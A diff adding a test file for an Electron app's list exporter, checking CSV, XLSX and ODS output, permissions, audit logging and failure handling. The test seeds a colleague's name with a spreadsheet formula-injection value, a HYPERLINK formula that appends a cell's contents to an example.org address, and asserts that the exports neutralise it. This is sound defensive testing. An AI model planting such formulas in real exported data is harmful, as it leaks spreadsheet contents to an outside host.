@@ -1,0 +1,169 @@
+import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { MessageChannel } from 'node:worker_threads';
+import { strFromU8, unzipSync } from 'fflate';
+import { readOds } from 'hucre/ods';
+import readXlsxFile from 'read-excel-file/node';
+import { describe, expect, it, onTestFinished } from 'vitest';
+import { systemClock } from '#shared/domain/clock.ts';
+import { silentLogger } from '#shared/domain/logger.ts';
+import { exportLists, type ExportFormat, type ExportList, type ExportRequest } from '#shared/domain/office.ts';
+import { connect } from '#shared/ipc/client.ts';
+import { officeContract } from '#shared/ipc/office-list.ts';
+import { serve } from '#shared/ipc/server.ts';
+import { ExportDesk } from '../../../electron/main/office/export-desk.ts';
+import { officeHandlers } from '../../../electron/office/office-handlers.ts';
+import { messagePort } from '../../../electron/store/ports.ts';
+import { withDatabase } from '../store/support/raw-database.ts';
+import { outboxOf, seed } from '../store/support/seed.ts';
+import { answer, hangUp, ring, storeBench, type StoreBench } from '../store/support/store-bench.ts';
+
+const hostile = '=HYPERLINK("http://example.org/?"&A1,"Klik")';
+const headings = { startedAt: 'Wanneer', direction: 'Richting', name: 'Naam', number: 'Nummer', queue: 'Wachtrij', answered: 'Antwoord', duration: 'Duur (s)', outcome: 'Resultaat', transferredTo: 'Doorverbonden naar' };
+const words = { inbound: 'binnenkomend', outbound: 'uitgaand', answered: 'opgenomen', missed: 'gemist' };
+
+interface Desk {
+  readonly bench: StoreBench;
+  readonly folder: string;
+  readonly save: (request: ExportRequest, format: ExportFormat) => Promise<{ path: string; rows: number | null }>;
+}
+
+/** A store with the tests' centre, an office process' insides behind real ports, and an operator who saves everything. */
+async function desk({ allowed = exportLists, cancels = false, folder: wanted }: { allowed?: readonly ExportList[]; cancels?: boolean; folder?: string } = {}): Promise<Desk> {
+  const bench = storeBench();
+  await bench.open();
+  seed(bench.path);
+  const folder = wanted ?? dirname(bench.path);
+  let path = '';
+  const exports = new ExportDesk({
+    allowed: () => allowed,
+    language: () => 'nl',
+    page: (input) => bench.main.call('export.page', input),
+    record: (input) => bench.main.call('export.record', input),
+    whereTo: async ({ extension }) => (cancels ? null : (path = join(folder, `lijst.${extension}`))),
+    office: async (work) => {
+      const { port1, port2 } = new MessageChannel();
+      onTestFinished(() => port1.close());
+      serve(officeContract, officeHandlers(), silentLogger).attach(messagePort(port1, () => undefined));
+      return work(connect(officeContract, messagePort(port2, () => undefined)));
+    },
+    clock: systemClock,
+    logger: silentLogger,
+  });
+  return { bench, folder, save: async (request, format) => ({ rows: await exports.export({ request, format, title: 'Oproepen', headings, words }), path }) };
+}
+
+const history: ExportRequest = { list: 'history', text: '', kind: 'all' };
+
+async function oneCall(bench: StoreBench, number = '+32470112200'): Promise<void> {
+  const call = await ring(bench, number);
+  await answer(bench, call);
+  await hangUp(bench, call);
+}
+
+/** A colleague whose name is a formula, with line breaks and quotes beside it. */
+function poison({ path }: StoreBench): void {
+  withDatabase(path, (handle) =>
+    handle
+      .prepare(`INSERT INTO directory_entry (id, version, updated_at, name, department, number, competences) VALUES ('01890000-0000-7000-8000-00000000dead', 1, '', ?, ?, '+32 9 225 41 07', '[]')`)
+      .run(hostile, '"; regel\ntwee'),
+  );
+}
+
+describe('a list as a file', () => {
+  it('is a CSV file that every spreadsheet opens and none computes', async () => {
+    const { bench, save } = await desk();
+    poison(bench);
+    const { path, rows } = await save({ list: 'directory', text: '' }, 'csv');
+    const text = readFileSync(path, 'utf8');
+    expect(text.startsWith('\uFEFF"Naam";')).toBe(true);
+    expect(text).toContain(`"'=HYPERLINK(""http://example.org/?""&A1,""Klik"")";"""; regel\ntwee";"'+32 9 225 41 07"`);
+    expect(rows).toBeGreaterThan(0);
+    expect(text.match(/\r\n/g)).toHaveLength((rows ?? 0) + (text.endsWith('\r\n') ? 1 : 0));
+  });
+
+  it('is a workbook, read back by another library: text is text, dates are dates, durations are numbers', async () => {
+    const { bench, save } = await desk();
+    poison(bench);
+    const directory = await save({ list: 'directory', text: '' }, 'xlsx');
+    const [sheet] = await readXlsxFile(directory.path);
+    expect(sheet?.data[1]?.[0]).toBe(hostile);
+    expect(strFromU8(unzipSync(readFileSync(directory.path))['xl/worksheets/sheet1.xml']!)).not.toMatch(/<f[ >]/);
+    await oneCall(bench);
+    const { path } = await save(history, 'xlsx');
+    const [calls] = await readXlsxFile(path);
+    expect(calls?.data[0]?.slice(0, 3)).toEqual(['Wanneer', 'Richting', 'Naam']);
+    const [when, direction, , number, , answered, seconds] = calls?.data[1] ?? [];
+    expect(when).toBeInstanceOf(Date);
+    expect([direction, number, answered, typeof seconds]).toEqual(['binnenkomend', '+32470112200', 'opgenomen', 'number']);
+  });
+
+  it('is an OpenDocument spreadsheet, read back by another library', async () => {
+    const { bench, save } = await desk();
+    poison(bench);
+    const directory = await save({ list: 'directory', text: '' }, 'ods');
+    const bytes = readFileSync(directory.path);
+    // The first entry, stored, at its fixed place: what `file` and every office program look for.
+    expect(bytes.subarray(30, 84).toString('latin1')).toBe('mimetypeapplication/vnd.oasis.opendocument.spreadsheet');
+    const [sheet] = (await readOds(bytes)).sheets;
+    expect(sheet?.rows[0]?.[0]).toBe('Naam');
+    expect(sheet?.rows[1]?.slice(0, 3)).toEqual([hostile, '"; regel\ntwee', '+32 9 225 41 07']);
+    expect(strFromU8(unzipSync(bytes)['content.xml']!)).not.toContain('table:formula');
+    await oneCall(bench);
+    const { path } = await save(history, 'ods');
+    const [calls] = (await readOds(readFileSync(path))).sheets;
+    expect(calls?.rows[1]?.[0]).toBeInstanceOf(Date);
+    expect(calls?.rows[1]?.[3]).toBe('+32470112200');
+  });
+
+  it('is written down for central before it is there: what and how much, never what was in it', async () => {
+    const { bench, save } = await desk();
+    await oneCall(bench);
+    await save(history, 'csv');
+    const logged = outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport');
+    expect(logged).toMatchObject([{ baseVersion: null, patch: { list: 'history', format: 'csv', rows: 1, customerId: null } }]);
+    expect(JSON.stringify(logged)).not.toContain('32470112200');
+  });
+
+  it('is refused by main where the centre does not let this operator: nothing is asked, nothing is written', async () => {
+    const { bench, folder, save } = await desk({ allowed: ['history'] });
+    await expect(save({ list: 'customers', text: 'peeters' }, 'xlsx')).rejects.toMatchObject({ code: 'office.not-allowed' });
+    expect(existsSync(join(folder, 'lijst.xlsx'))).toBe(false);
+    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toEqual([]);
+  });
+
+  it('that the operator does not save after all is not written down', async () => {
+    const { bench, save } = await desk({ cancels: true });
+    expect((await save(history, 'csv')).rows).toBeNull();
+    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toEqual([]);
+  });
+
+  it('that cannot be written leaves nothing behind, and the file that was there as it was', async () => {
+    const { bench, folder, save } = await desk();
+    await oneCall(bench);
+    const { path } = await save(history, 'csv');
+    const before = readFileSync(path, 'utf8');
+    bench.store.close();
+    await expect(save(history, 'csv')).rejects.toMatchObject({ code: 'store.not-ready' });
+    expect(readFileSync(path, 'utf8')).toBe(before);
+    expect(readdirSync(folder).filter((name) => name.endsWith('.part'))).toEqual([]);
+    const nowhere = await desk({ folder: '/nowhere/at/all' });
+    await expect(nowhere.save(history, 'ods')).rejects.toMatchObject({ code: 'office.not-written' });
+  });
+
+  it('has every call of a long history once, newest first, and is readable by the operator alone', async () => {
+    const { bench, save } = await desk();
+    withDatabase(bench.path, (handle) =>
+      handle.exec(`
+        WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1234)
+        INSERT INTO interaction (id, version, updated_at, channel, direction, state, number, started_at, sentence, note, captured, interrupted)
+          SELECT printf('01890000-0000-7000-8000-%012d', i), 1, '', 'voice', 'inbound', 'closed', printf('+3292%06d', i), strftime('%Y-%m-%dT%H:%M:%fZ', '2026-03-02T08:00:00', (i / 3) || ' seconds'), '', '', '{}', 0 FROM n;
+        INSERT INTO call_leg (id, version, updated_at, interaction_id, call_id, direction, started_at) SELECT id, 1, '', id, id, direction, started_at FROM interaction WHERE version = 1;`),
+    );
+    const { path, rows } = await save(history, 'csv');
+    const lines = readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1);
+    expect(rows).toBe(1234);
+    expect(new Set(lines.map((line) => line.split(';')[3])).size).toBe(1234);
+    expect(statSync(path).mode & 0o077).toBe(0);
+  });
+});
